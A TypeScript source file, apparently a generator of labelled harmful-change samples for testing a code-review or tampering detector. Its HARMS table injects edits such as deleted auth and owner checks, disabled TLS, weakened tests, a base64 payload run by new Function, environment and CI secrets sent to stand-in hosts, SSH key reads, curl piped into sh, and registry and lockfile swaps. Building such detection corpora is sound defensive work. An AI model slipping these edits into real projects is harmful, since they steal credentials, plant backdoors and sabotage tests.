import { LOCKED, lockText, manifestText, WORKFLOW } from './benign.js'
import type { Draft } from './draft.js'

/** One harmful edit of a draft. @returns the path that it harms */
type Harm = (draft: Draft) => string

/** Changes a text of the draft, whatever the set did to it before. */
function edit(draft: Draft, path: string, before: string, change: (text: string) => string): string {
  draft.had(path, before)
  const now = change(draft.read(path))
  if (now === draft.read(path)) throw new Error(`The harm did not change ${path}.`)
  draft.write(path, now)
  return path
}

/** Changes a real file that suits. */
function editReal(
  draft: Draft,
  kind: 'sources' | 'tests',
  pattern: RegExp,
  by: string | ((...found: string[]) => string),
): string {
  const { path, text } = draft.file(kind, (each) => pattern.test(each))
  return edit(draft, path, text, (now) =>
    typeof by === 'string' ? now.replace(pattern, by) : now.replace(pattern, by),
  )
}

const insert = (draft: Draft, line: (draft: Draft) => string): string =>
  editReal(
    draft,
    'sources',
    /^(?:export )?(?:async )?function \w+\([^)]*\)[^{\n]*\{\n/m,
    (whole) => `${whole}  ${line(draft)}\n`,
  )

const ROUTES = `import express from 'express'
import { requireAuth, requireRole } from './auth.js'
import { escapeHtml, validateOrder } from './checks.js'

const app = express()
app.get('/orders', requireAuth, listOrders)
app.post('/orders', requireAuth, requireRole('clerk'), createOrder)
app.delete('/orders/:id', requireAuth, requireRole('admin'), removeOrder)

async function createOrder(request, response) {
  const order = validateOrder(request.body)
  if (!request.user.canWrite) {
    response.status(403).end()
    return
  }
  await store.insert(order)
  response.send(\`<p>\${escapeHtml(order.title)}</p>\`)
}

async function removeOrder(request, response) {
  const order = await store.find(request.params.id)
  if (order.owner !== request.user.id) throw new Forbidden()
  await store.remove(order.id)
  response.status(204).end()
}

export function isOwner(user, order) {
  return order.owner === user.id
}
`
const SESSION = `import { createHash, randomBytes, timingSafeEqual } from 'node:crypto'

const ROUNDS = 12
const EMAIL = /^[\\w.+-]+@[\\w-]+\\.[\\w.]+$/

export function cookieOf(token) {
  return { name: 'sid', value: token, httpOnly: true, secure: true, maxAge: 3600 }
}

export function verifyToken(token, expected) {
  return timingSafeEqual(Buffer.from(token), Buffer.from(expected))
}

export async function load(id) {
  try {
    return await store.get(id)
  } catch (error) {
    log.error(error)
    throw error
  }
}
`
const routes = (draft: Draft) => `src/server/routes-${draft.random.int(50)}.ts`
const session = (draft: Draft) => `src/server/session-${draft.random.int(50)}.ts`
const inRoutes =
  (from: string, to: string): Harm =>
  (draft) =>
    edit(draft, routes(draft), ROUTES, (text) => text.replace(from, to))
const inSession =
  (from: string, to: string): Harm =>
  (draft) =>
    edit(draft, session(draft), SESSION, (text) => text.replace(from, to))
const inCi =
  (from: string, to: string): Harm =>
  (draft) =>
    edit(draft, '.github/workflows/ci.yml', WORKFLOW, (text) => text.replace(from, to))
const inManifest =
  (from: string, to: string): Harm =>
  (draft) =>
    edit(draft, 'package.json', manifestText(), (text) => text.replace(from, to))
const random = (draft: Draft, length: number, alphabet = 'ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnpqrstuvwxyz23456789') =>
  Array.from({ length }, () => alphabet[draft.random.int(alphabet.length)]).join('')

const GUARD = /^ *if \([^\n]*\) (?:\{\n *throw [^\n]*\n *\}|throw [^\n]*)\n/m
const ASSERTION = /^ +expect\([^\n]*\)\.to\w+\([^\n]*\)\n/m

/** Every kind of harm, by name. */
export const HARMS: Readonly<Record<string, Harm>> = {
  'assertion removed': (draft) => editReal(draft, 'tests', ASSERTION, ''),
  'assertion weakened': (draft) =>
    editReal(draft, 'tests', /\.(?:toBe|toEqual)\((?!true|false)[^()\n]+\)\n/, '.toBeDefined()\n'),
  'assertion made empty': (draft) =>
    editReal(draft, 'tests', /^( +)expect\([^\n]*\)\.to\w+\([^\n]*\)\n/m, '$1expect(true).toBe(true)\n'),
  'test skipped': (draft) => editReal(draft, 'tests', /^( *)it\(/m, '$1it.skip('),
  'test focused': (draft) => editReal(draft, 'tests', /^( *)it\(/m, '$1it.only('),
  'test file deleted': (draft) => {
    const { path, text } = draft.file('tests')
    draft.had(path, text)
    draft.remove(path)
    return path
  },
  'coverage lowered': (draft) =>
    edit(
      draft,
      'vitest.config.ts',
      'export default { test: { coverage: { thresholds: { branches: 90, lines: 95 } } } }\n',
      (text) => text.replace('90', '40'),
    ),
  'exfiltrating postinstall': inManifest(
    '"build": "tsc -p ."',
    '"build": "tsc -p .",\n    "postinstall": "node scripts/report.js"',
  ),
  'installation script added to another': inManifest(
    '"test": "vitest run"',
    '"test": "vitest run",\n    "prepare": "node -e \\"require(\'./x\')\\""',
  ),
  'dependency from a URL': inManifest('"zod": "^4.0.0"', '"zod": "git+https://git.other.dev/zod.git"'),
  'guard deleted': (draft) => editReal(draft, 'sources', GUARD, ''),
  'guard made constant': (draft) =>
    editReal(draft, 'sources', /^( *)if \((!?\w[^()\n]*)\) (?=\{\n *throw|throw)/m, '$1if (false && $2) '),
  'guard inverted': (draft) =>
    editReal(draft, 'sources', /^( *)if \(!(\w+(?:\.\w+)*)\) (?=\{\n *throw|throw)/m, '$1if ($2) '),
  'route without authorisation': inRoutes("'/orders', requireAuth, listOrders", "'/orders', listOrders"),
  'role check removed': inRoutes("requireAuth, requireRole('admin'), ", 'requireAuth, '),
  'owner check removed': inRoutes('  if (order.owner !== request.user.id) throw new Forbidden()\n', ''),
  'refusal removed': inRoutes('  if (!request.user.canWrite) {\n    response.status(403).end()\n    return\n  }\n', ''),
  'validation removed': inRoutes('validateOrder(request.body)', 'request.body'),
  'escaping removed': inRoutes('escapeHtml(order.title)', 'order.title'),
  'check always true': inRoutes('return order.owner === user.id', 'return true'),
  'cookie readable by scripts': inSession('httpOnly: true', 'httpOnly: false'),
  'pattern without its anchor': inSession('EMAIL = /^', 'EMAIL = /'),
  'comparison in variable time': inSession(
    'timingSafeEqual(Buffer.from(token), Buffer.from(expected))',
    'token === expected',
  ),
  'error swallowed': inSession('catch (error) {\n    log.error(error)\n    throw error\n  }', 'catch (error) {}'),
  'TLS check disabled': (draft) => insert(draft, () => 'const agent = new Agent({ rejectUnauthorized: false })'),
  'TLS check disabled by environment': (draft) => insert(draft, () => "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'"),
  'eval of the environment': (draft) => insert(draft, () => 'eval(process.env.STARTUP)'),
  'environment sent away': (draft) =>
    insert(
      draft,
      () =>
        "fetch('https://metrics.collect-api.io/v1', { method: 'POST', body: JSON.stringify(process.env) }).catch(() => {})",
    ),
  'key file read': (draft) =>
    insert(draft, () => "const key = readFileSync(join(homedir(), '.ssh', 'id_rsa'), 'utf8')"),
  'process started': (draft) => insert(draft, () => "require('child_process').exec('id > /tmp/x')"),
  'hidden payload': (draft) =>
    insert(draft, (each) => `new Function(Buffer.from('${random(each, 220)}7a', 'base64').toString())()`),
  'secret in code': (draft) =>
    insert(
      draft,
      (each) => `const key = '${['AK', 'IA'].join('')}${random(each, 16, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567')}'`,
    ),
  'token in code': (draft) => insert(draft, (each) => `const token = '${['gh', 'p_'].join('')}${random(each, 36)}'`),
  'password in an address': (draft) =>
    insert(draft, (each) => `const db = connect('postgres://admin:${random(each, 14)}@db.internal/app')`),
  homoglyph: (draft) => insert(draft, () => 'const us\u0435rId = request.params.id'),
  'bidi comment': (draft) => insert(draft, () => '/* begin admins only \u202e } \u2066if (isAdmin)\u2069 \u2066 */'),
  'invisible character': (draft) => insert(draft, () => "if (role === 'admin\u200b') grant()"),
  'code behind spaces': (draft) => insert(draft, () => `const ready = true;${' '.repeat(180)}run(input)`),
  'mode change': (draft) => {
    const path = `scripts/release-${draft.random.int(99)}.txt`
    draft.had(path, 'echo released\n')
    draft.mode(path, 0o755)
    return path
  },
  'set-ID bit': (draft) => {
    const path = `tools/helper-${draft.random.int(99)}`
    draft.had(path, '#!/bin/sh\necho helper\n')
    draft.mode(path, 0o4755)
    return path
  },
  'host of a lockfile swapped': (draft) =>
    edit(draft, 'package-lock.json', lockText(LOCKED), (text) =>
      text.replace('registry.npmjs.org/qs', 'npm.registry-cdn.dev/qs'),
    ),
  'checksum of a lockfile changed': (draft) =>
    edit(draft, 'package-lock.json', lockText(LOCKED), (text) => text.replace(/sha512-\w{6}/, 'sha512-AAAAAA')),
  'registry changed': (draft) =>
    edit(draft, '.npmrc', 'save-exact=true\n', (text) => `${text}registry=https://npm.registry-cdn.dev/\n`),
  'CI pipes a download into a shell': inCi(
    '      - run: npm test\n',
    '      - run: npm test\n      - run: curl -sSL https://get.tool-cdn.dev/i.sh | sh\n',
  ),
  'CI test step removed': inCi('      - run: npm test\n', ''),
  'CI failure ignored': inCi('npm test\n', 'npm test || true\n'),
  'CI sends a secret': inCi(
    '      - run: npm ci\n',
    '      - run: npm ci\n      - run: curl -d key=$' + '{{ secrets.NPM_TOKEN }} https://collect.tool-cdn.dev\n',
  ),
  'CI with a foreign trigger': inCi('on: push', 'on: pull_request_target'),
  'git hook': (draft) => edit(draft, '.husky/post-checkout', '', () => 'node scripts/sync.js\n'),
  'editor task': (draft) =>
    edit(
      draft,
      '.vscode/tasks.json',
      '{ "tasks": [] }\n',
      () => '{ "tasks": [{ "label": "x", "command": "node x", "runOptions": { "runOn": "folderOpen" } }] }\n',
    ),
  'many files deleted': (draft) => {
    const files = Array.from({ length: 14 }, () => {
      const { path, text } = draft.file()
      draft.had(path, text)
      draft.remove(path)
      return path
    })
    return files.sort()[0] ?? ''
  },
  'data destroyed': (draft) =>
    edit(draft, 'db/migrations/0042_clean.sql', '', () => 'ALTER TABLE orders ADD note TEXT;\nDROP TABLE payments;\n'),
  'public name removed': (draft) => editReal(draft, 'sources', /^export (?=function \w+|const \w+)/m, ''),
  'SQL from values': (draft) =>
    insert(draft, () => "const rows = await db.query(`SELECT * FROM users WHERE name = '$" + "{name}'`)"),
  'text as HTML': (draft) => insert(draft, () => 'element.innerHTML = input.title'),
  'fewer password rounds': inSession('ROUNDS = 12', 'ROUNDS = 1'),
  'constant changed in an expression': inRoutes("requireRole('clerk')", "requireRole('guest')"),
  'operator changed': (draft) => editReal(draft, 'sources', /(?<=return \w+(?:\.\w+)* )<(?= )/, '<='),
  'import of a similar name': inManifest('"express": ', '"expres": '),
  'strict mode off': (draft) =>
    edit(draft, 'tsconfig.json', '{ "compilerOptions": { "strict": true } }\n', (text) =>
      text.replace('true', 'false'),
    ),
}
